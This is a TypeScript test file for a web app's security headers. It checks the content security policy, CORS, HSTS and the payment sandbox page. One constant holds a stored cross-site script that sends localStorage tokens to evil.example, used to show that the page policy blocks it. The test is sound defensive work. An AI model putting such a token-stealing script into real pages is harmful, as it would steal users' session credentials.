import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newUser } from '../factories/users';
import { call } from '../helpers/auth';
import { createTestApp, PRODUCTION_ENV, type TestApp } from '../helpers/test-app';

// index.html as the build leaves it: the repository's own (its two inline scripts, the splash
// style), plus the inline loader build/paint-before-scripts.ts puts in place of the entry.
const LOADER =
  '<link rel="modulepreload" crossorigin href="/assets/index-AbC123.js">' +
  '<script>(function(){var s=document.createElement("script");s.type="module";' +
  's.src="/assets/index-AbC123.js";document.head.appendChild(s)})()</script>\n';
const INDEX = readFileSync(path.resolve('index.html'), 'utf8')
  .replace(/\s*<script type="module" src="\/src\/main.tsx"><\/script>/, '')
  .replace('</head>', `${LOADER}</head>`);

// A server entry whose screen carries a script, as a stored cross-site script would if a
// renderer ever let one through: it must not be admitted by the page's policy.
const INJECTED = 'fetch("https://evil.example/?t="+localStorage.tokens)';
const SERVER_ENTRY = `
export async function renderScreen(pathname, hint) {
  if (pathname !== '/') return null;
  return {
    html: '<main>Xin chào ' + hint.user.name + '<script>${INJECTED}</script></main>',
    state: { hint, queries: { mutations: [], queries: [] } },
  };
}
`;
const HINT = Buffer.from(
  JSON.stringify({
    user: { id: 7, name: 'Lan', avatar: null, role: 'customer' },
    location: { lat: 10.77, lon: 106.7, address: 'Quận 1' },
  }),
).toString('base64url');

function fakeBuild(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'mn-csp-'));
  mkdirSync(path.join(dir, 'assets'));
  mkdirSync(path.join(dir, 'ssr'));
  writeFileSync(path.join(dir, 'index.html'), INDEX);
  writeFileSync(path.join(dir, 'assets', 'index-AbC123.js'), 'console.log(1);');
  writeFileSync(path.join(dir, 'sw.js'), 'self.addEventListener("fetch", () => {});');
  writeFileSync(path.join(dir, 'ssr', 'server-entry.js'), SERVER_ENTRY);
  writeFileSync(
    path.join(dir, 'prerendered.json'),
    JSON.stringify({ '/login': '<main>Đăng nhập</main>' }),
  );
  // As build/content-security.ts writes it for VITE_MAPS_BASE_URL=https://maps.example.vn/geo.
  writeFileSync(
    path.join(dir, 'content-security.json'),
    JSON.stringify({ connectSrc: ['https://maps.example.vn'] }),
  );
  return dir;
}

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

/** The CSP's directives by name. */
function directives(res: LightMyRequestResponse): Map<string, string[]> {
  const header = res.headers['content-security-policy'];
  expect(typeof header, 'a Content-Security-Policy header').toBe('string');
  return new Map(
    String(header)
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .map(([name, ...values]) => [name!, values]),
  );
}

/** The inline scripts a browser would run, found independently of the server's parser. */
function runnableInlineScripts(html: string): string[] {
  return [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)]
    .filter(
      ([, attributes]) =>
        !/\bsrc=/.test(attributes!) && !/type="application\/json"/.test(attributes!),
    )
    .map(([, , body]) => body!);
}

const PERMISSIONS =
  'geolocation=(self), camera=(), microphone=(), payment=(), usb=(), accelerometer=(), gyroscope=(), magnetometer=()';

describe('security headers', () => {
  let t: TestApp;
  let dir: string;
  beforeAll(async () => {
    dir = fakeBuild();
    t = await createTestApp({ env: { STATIC_DIR: dir } });
  });
  afterAll(async () => {
    await t.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const page = (url: string, headers: Record<string, string> = {}) =>
    t.app.inject({ method: 'GET', url, headers: { accept: 'text/html', ...headers } });

  function expectAppPolicy(res: LightMyRequestResponse, sentScripts: string[]): void {
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/html/);
    const csp = directives(res);
    const scriptSrc = csp.get('script-src')!;
    expect(scriptSrc).not.toContain("'unsafe-inline'");
    expect(scriptSrc).not.toContain("'unsafe-eval'");
    // Exactly the template's three scripts (theme, early dishes, loader), each by its hash.
    expect(scriptSrc).toEqual(["'self'", ...runnableInlineScripts(INDEX).map(sha256)]);
    expect(runnableInlineScripts(INDEX)).toHaveLength(3);
    for (const script of sentScripts) expect(scriptSrc).toContain(sha256(script));
    expect(csp.get('default-src')).toEqual(["'self'"]);
    expect(csp.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
    expect(csp.get('img-src')).toEqual(["'self'", 'data:', 'blob:', 'https:', 'http:']);
    expect(csp.get('connect-src')).toEqual(["'self'", 'https://maps.example.vn']);
    expect(csp.get('worker-src')).toEqual(["'self'"]);
    expect(csp.get('manifest-src')).toEqual(["'self'"]);
    expect(csp.get('object-src')).toEqual(["'none'"]);
    expect(csp.get('base-uri')).toEqual(["'self'"]);
    expect(csp.get('form-action')).toEqual(["'self'"]);
    expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
    expect(res.headers['x-frame-options']).toBe('DENY');
    expect(res.headers['permissions-policy']).toBe(PERMISSIONS);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    // Outside production nobody is told to insist on https (a laptop serves http).
    expect(res.headers['strict-transport-security']).toBeUndefined();
  }

  it('sends the app shell with a policy that admits its inline scripts by hash', async () => {
    const res = await page('/orders');
    expectAppPolicy(res, runnableInlineScripts(res.body));
    expect(runnableInlineScripts(res.body)).toHaveLength(3);
  });

  it('sends the same policy with a prerendered screen and with /index.html', async () => {
    const login = await page('/login');
    expect(login.body).toContain('<main>Đăng nhập</main>');
    expectAppPolicy(login, runnableInlineScripts(login.body));
    // The file the service worker precaches and serves offline keeps its headers there.
    const file = await t.app.inject({ method: 'GET', url: '/index.html' });
    expectAppPolicy(file, runnableInlineScripts(file.body));
  });

  it('never admits a script that arrived inside a server-rendered screen', async () => {
    const res = await page('/', { cookie: `mn_view=${HINT}` });
    expect(res.body).toContain('data-server-rendered');
    expect(res.body).toContain(`<script>${INJECTED}</script>`);
    expect(res.body).toContain('<script type="application/json" id="mn-server-state">');
    const template = runnableInlineScripts(INDEX);
    expectAppPolicy(
      res,
      runnableInlineScripts(res.body).filter((script) => template.includes(script)),
    );
    expect(directives(res).get('script-src')).not.toContain(sha256(INJECTED));
  });

  it('sends the payment result page, the app at an /api path, with the app policy', async () => {
    const res = await page('/api/payment/vnpay/return/?vnp_TxnRef=1');
    expectAppPolicy(res, runnableInlineScripts(res.body));
  });

  it('gives JSON replies a policy that allows nothing, and no framing', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/health' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-security-policy']).toBe(
      "default-src 'none'; frame-ancestors 'none'",
    );
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['permissions-policy']).toBe(PERMISSIONS);
    expect(res.headers['strict-transport-security']).toBeUndefined();
    const missing = await t.app.inject({ method: 'GET', url: '/api/nothing-here' });
    expect(missing.statusCode).toBe(404);
    expect(missing.headers['content-security-policy']).toBe(
      "default-src 'none'; frame-ancestors 'none'",
    );
  });

  it('binds no script file with a policy: the service worker must reach pictures anywhere', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/sw.js' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-security-policy']).toBeUndefined();
    expect(res.headers['x-content-type-options']).toBe('nosniff');
  });

  it('sends the sandbox page with its own policy: its style by hash, its form to the return URL', async () => {
    const user = await newUser(t, 'customer');
    const deposit = await call<{ data: { payment_url: string } }>(
      t.app,
      'POST',
      '/api/payment/deposit/create/',
      { token: user.token, body: { amount: 50_000 } },
    );
    expect(deposit.status).toBe(200);
    const url = new URL(deposit.body.data.payment_url);
    const returnOrigin = new URL(url.searchParams.get('vnp_ReturnUrl')!).origin;
    const res = await t.app.inject({ method: 'GET', url: `${url.pathname}${url.search}` });
    expect(res.statusCode).toBe(200);
    const style = /<style>([\s\S]*?)<\/style>/.exec(res.body)![1]!;
    expect(res.headers['content-security-policy']).toBe(
      `default-src 'none'; style-src ${sha256(style)}; object-src 'none'; base-uri 'none'; ` +
        `form-action 'self' ${returnOrigin}; frame-ancestors 'none'`,
    );
    expect(runnableInlineScripts(res.body)).toEqual([]);
    expect(res.headers['x-frame-options']).toBe('DENY');
    expect(res.headers['permissions-policy']).toBe(PERMISSIONS);

    // A refused request shows an error page without a form: it may submit nowhere.
    const refused = await t.app.inject({ method: 'GET', url: `${url.pathname}?vnp_TxnRef=x` });
    expect(refused.statusCode).toBe(400);
    expect(directives(refused).get('form-action')).toEqual(["'none'"]);
  });

  describe('CORS', () => {
    const FOREIGN = 'https://evil.example';

    it('answers a foreign preflight with no permission to call the API', async () => {
      const res = await t.app.inject({
        method: 'OPTIONS',
        url: '/api/cart/',
        headers: {
          origin: FOREIGN,
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'authorization, content-type',
        },
      });
      expect(res.statusCode).toBe(404);
      expect(res.json()).toMatchObject({ success: false, code: 'NOT_FOUND' });
      for (const name of Object.keys(res.headers)) expect(name).not.toMatch(/^access-control-/);
    });

    it('lets no foreign page read a reply', async () => {
      const res = await t.app.inject({
        method: 'GET',
        url: '/api/category/',
        headers: { origin: FOREIGN },
      });
      expect(res.statusCode).toBe(200);
      for (const name of Object.keys(res.headers)) expect(name).not.toMatch(/^access-control-/);
    });
  });
});

describe('security headers in production', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ env: PRODUCTION_ENV });
  });
  afterAll(() => t.close());

  it('tells browsers to use https only, for a year', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/health' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
  });
});
